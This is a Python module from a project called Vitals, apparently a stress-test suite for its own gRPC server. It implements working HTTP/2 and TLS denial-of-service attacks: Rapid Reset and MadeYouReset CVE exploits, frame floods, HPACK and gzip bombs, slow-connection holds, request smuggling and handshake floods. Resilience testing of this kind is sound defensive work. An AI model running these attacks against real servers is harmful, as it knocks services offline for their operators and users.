# Part of Vitals. Copyright (c) 2026 the Vitals authors.
# SPDX-License-Identifier: Apache-2.0
"""Known attacks; see `attacker.py` for the command line."""

import contextlib
import gzip
import random
import socket
import struct
import sys
import time

import attacker
import hello
import http2
from attacker import CHECK, INFER, WATCH, allow_descriptors, call, call_headers, careless_tls, drain, opening

PRIORITY, CONTINUATION = 2, 9
CANCEL = struct.pack(">I", 8)


def rapid_reset(attack):
    """CVE-2023-44487: calls that are cancelled at once."""
    while attack.goes_on():
        with attack.peer() as peer:
            for number in attack.numbers(1, 100):
                ids = range(2 * number + 1, 2 * number + 201, 2)
                peer.send(b"".join(call(i, WATCH) + http2.frame(http2.RST_STREAM, 0, i, CANCEL) for i in ids))
                drain(peer)


def made_you_reset(attack):
    """CVE-2025-8671: calls whose next frame makes the server reset them."""
    overflow = struct.pack(">I", 0x7FFFFFFF)
    while attack.goes_on():
        with attack.peer() as peer:
            for number in attack.numbers(1, 50):
                ids = range(2 * number + 1, 2 * number + 101, 2)
                peer.send(b"".join(call(i, WATCH) + http2.frame(http2.WINDOW_UPDATE, 0, i, overflow) for i in ids))
                drain(peer)


def continuation_flood(attack):
    """A header block that never ends."""
    head = http2.frame(http2.HEADERS, 0, 1, call_headers(WATCH))
    part = http2.frame(CONTINUATION, 0, 1, http2.header_block((b"x", b"y")))
    while attack.goes_on():
        with attack.peer() as peer:
            peer.send(head)
            while attack.goes_on():
                peer.send(part * 500)
                drain(peer)


def ping_flood(attack):
    attack.repeat(http2.frame(http2.PING, 0, 0, bytes(8)) * 500)


def settings_flood(attack):
    attack.repeat(http2.settings(initial_window=65535) * 500)


def empty_frame_flood(attack):
    start = http2.frame(http2.HEADERS, http2.END_HEADERS, 1, call_headers(CHECK))
    while attack.goes_on():
        with attack.peer() as peer:
            peer.send(start)
            while attack.goes_on():
                peer.send(http2.frame(http2.DATA, 0, 1) * 500)
                drain(peer)


def priority_flood(attack):
    attack.repeat(http2.frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 200)) * 500)


def window_update_flood(attack):
    attack.repeat(http2.frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 500)


def unknown_frame_flood(attack):
    attack.repeat(http2.frame(0xFA, 0, 0, b"x" * 8) * 500)


def zero_window(attack):
    """Calls whose answers have no window, on a hundred connections."""

    def begin(peer):
        peer.open(initial_window=0)
        peer.send(b"".join(call(i, CHECK) for i in range(1, 120, 2)))

    attack.hold(100, begin)


def one_byte_window(attack):
    """An answer fetched a byte at a time."""
    while attack.goes_on():
        with attack.peer(initial_window=0) as peer:
            for number in attack.numbers(1):
                stream = 2 * number + 1
                peer.send(call(stream, CHECK))
                update = http2.frame(http2.WINDOW_UPDATE, 0, stream, struct.pack(">I", 1))
                peer.send(update * 11)
                drain(peer)


def unread_answers(attack):
    """Calls without end, and not one answer is read."""
    while attack.goes_on():
        # By itself the kernel would hold a hundred thousand answers: half a minute's work for a slow machine.
        with attack.peer(receive_buffer=4096, initial_window=1 << 30) as peer:
            peer.update_window(0, 1 << 30)
            peer.socket.settimeout(1)
            for number in attack.numbers(1, 50):
                peer.send(b"".join(call(2 * i + 1, CHECK) for i in range(number, number + 50)))


def slow_preface(attack):
    attack.hold(300, lambda peer: peer.send(http2.PREFACE[:9]))


def slow_headers(attack):
    def begin(peer):
        peer.open()
        peer.send(http2.frame(http2.HEADERS, 0, 1, call_headers(CHECK)))

    attack.hold(300, begin)


def slow_body(attack):
    """Calls that stop within their message; each is ended, and its connection for want of anything else."""

    def begin(peer):
        peer.open()
        for stream in range(1, 61, 2):
            peer.send(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, call_headers(INFER)))
            peer.send(http2.frame(http2.DATA, 0, stream, struct.pack(">BI", 0, 1 << 20) + bytes(900)))

    attack.hold(100, begin)


def hpack_bomb(attack):
    """A field of 3,900 bytes goes into the table once, then one byte stands for it a thousand times."""
    value = b"v" * 3900
    length = b"\x7f" + bytes([(3900 - 127) % 128 + 128, (3900 - 127) // 128])
    first = call_headers(CHECK) + b"\x40\x01x" + length + value
    bomb = call_headers(CHECK) + b"\xbe" * 8000
    while attack.goes_on():
        with attack.peer() as peer:
            peer.send(http2.frame(http2.HEADERS, http2.END_HEADERS, 1, first))
            for stream in attack.numbers(3, 2):
                peer.send(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, bomb))
                drain(peer)


def gzip_bomb(attack):
    """Messages of 2 KiB that unfold to 2 MB: an unknown field of zeros."""
    packed = gzip.compress(b"\x7a\x80\x89\x7a" + bytes(2_000_000), 9)
    head = call_headers(INFER, (b"grpc-encoding", b"gzip"))
    body = http2.frame(http2.DATA, http2.END_STREAM, 0, struct.pack(">BI", 1, len(packed)) + packed)
    while attack.goes_on():
        with attack.peer() as peer:
            for stream in attack.numbers(1, 2):
                peer.send(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, head))
                peer.send(body[:5] + struct.pack(">I", stream) + body[9:])
                drain(peer)


def huge_headers(attack):
    fields = call_headers(CHECK, *((b"x-%d" % n, b"y" * 120) for n in range(100)))
    while attack.goes_on():
        with attack.peer() as peer:
            for stream in attack.numbers(1, 2):
                peer.send(http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, fields * 1))
                drain(peer)


def idle_connections(attack):
    """Ten thousand that say hello and nothing else; more than the 3,000 that a server under test may have."""
    allow_descriptors()
    attack.hold(10_000, lambda peer: peer.send(opening()), fewest=3500)


def churn(attack):
    """One connection after the other, with a call, half a call, or nothing."""
    while attack.goes_on():
        for data in (b"", opening(), opening() + call(1, CHECK), opening() + call(1, CHECK)[:40]):
            with attack.peer(opened=False) as peer:
                peer.send(data)


def half_closed(attack):
    """Calls whose clients close their sending side and wait."""

    def begin(peer):
        peer.open()
        peer.send(call(1, WATCH))
        peer.socket.shutdown(socket.SHUT_WR)

    while attack.goes_on():
        attack.hold(50, begin)


def watch_storm(attack):
    """Watches of unregistered names of the largest length, opened, abandoned and opened again."""
    while attack.goes_on():
        with attack.peer() as peer:
            for number in attack.numbers(1):
                name = b"%08d" % number + b"n" * 3900
                message = b"\x0a" + bytes([len(name) % 128 + 128, len(name) // 128]) + name
                peer.send(call(2 * number + 1, WATCH, message))
                if number > 90:
                    peer.send(http2.frame(http2.RST_STREAM, 0, 2 * (number - 90) + 1, CANCEL))
                drain(peer)


def garbage(attack):
    noise = random.Random(4)
    while attack.goes_on():
        with attack.peer(opened=noise.random() < 0.5) as peer:
            while attack.goes_on():
                peer.send(noise.randbytes(noise.randrange(1, 4096)))
                drain(peer)


def smuggling(attack):
    """HTTP/1.1 with two lengths, and HTTP/2 hidden behind it."""
    head = b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
    hidden = http2.PREFACE + http2.settings() + call(1, CHECK)
    while attack.goes_on():
        for data in (head + b"0\r\n\r\n" + hidden, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" + hidden):
            with attack.peer(opened=False) as peer:
                peer.send(data)
                answer = b""
                while part := peer.socket.recv(1 << 16):
                    answer += part
                # Over TLS both sides have agreed on HTTP/2, and the answer is a GOAWAY.
                assert attack.tls or answer.startswith(b"HTTP/1.1 "), answer
                assert b"\x08\x01" not in answer, "the hidden call was answered"
                raise EOFError


def handshake_storm(attack):
    """TLS clients that shake hands and leave; only for a port with TLS."""
    context = careless_tls()
    while attack.goes_on():
        attack.made += 1
        attack.pace.take(600)
        with contextlib.suppress(OSError):
            with socket.create_connection(("127.0.0.1", attack.port), timeout=5) as connection:
                with context.wrap_socket(connection):
                    attack.ended += 1


def hello_flood(attack):
    """TLS 1.3 hellos of the dearest group, a MB of them a second on 150 connections, for answers or for none; only for a
    port with TLS."""
    data = hello.client_hello([hello.P384])
    start, sent, open_ones = time.monotonic(), 0, []
    while attack.goes_on():
        while sent < (time.monotonic() - start) * 1e6 and len(open_ones) < 150:
            connection = socket.socket()
            open_ones.append(connection)
            with contextlib.suppress(OSError):
                connection.settimeout(1)
                connection.connect(("127.0.0.1", attack.port))
                connection.sendall(data)
            connection.setblocking(False)
            attack.made += 1
            sent += len(data)
        # The older half is not waited for any longer.
        if len(open_ones) == 150:
            for connection in open_ones[:75]:
                with contextlib.suppress(OSError):
                    attack.ended += len(connection.recv(1))
                connection.close()
            del open_ones[:75]
        time.sleep(0.001)


def slow_hellos(attack):
    """Twenty of them a second, without reading the response: TLS 1.3 with the longest finite field."""
    while attack.goes_on():
        attack.made += 1
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", attack.port), timeout=1) as connection:
            connection.sendall(hello.client_hello([hello.FFDHE8192]))
            time.sleep(0.05)


OF_TLS = [handshake_storm, hello_flood, slow_hellos]
ALL = [
    *(rapid_reset, made_you_reset, continuation_flood, ping_flood, settings_flood, empty_frame_flood),
    *(priority_flood, window_update_flood, unknown_frame_flood, zero_window, one_byte_window, unread_answers),
    *(slow_preface, slow_headers, slow_body, hpack_bomb, gzip_bomb, huge_headers, idle_connections, churn, half_closed),
    *(watch_storm, garbage, smuggling),
]


# These make many connections themselves.
MANY_CLIENTS = {"zero_window", "slow_preface", "slow_headers", "slow_body", "idle_connections", "half_closed"}
MANY_CLIENTS |= {"hello_flood", "slow_hellos"}


if __name__ == "__main__":
    attacker.main(globals(), *sys.argv[1:])
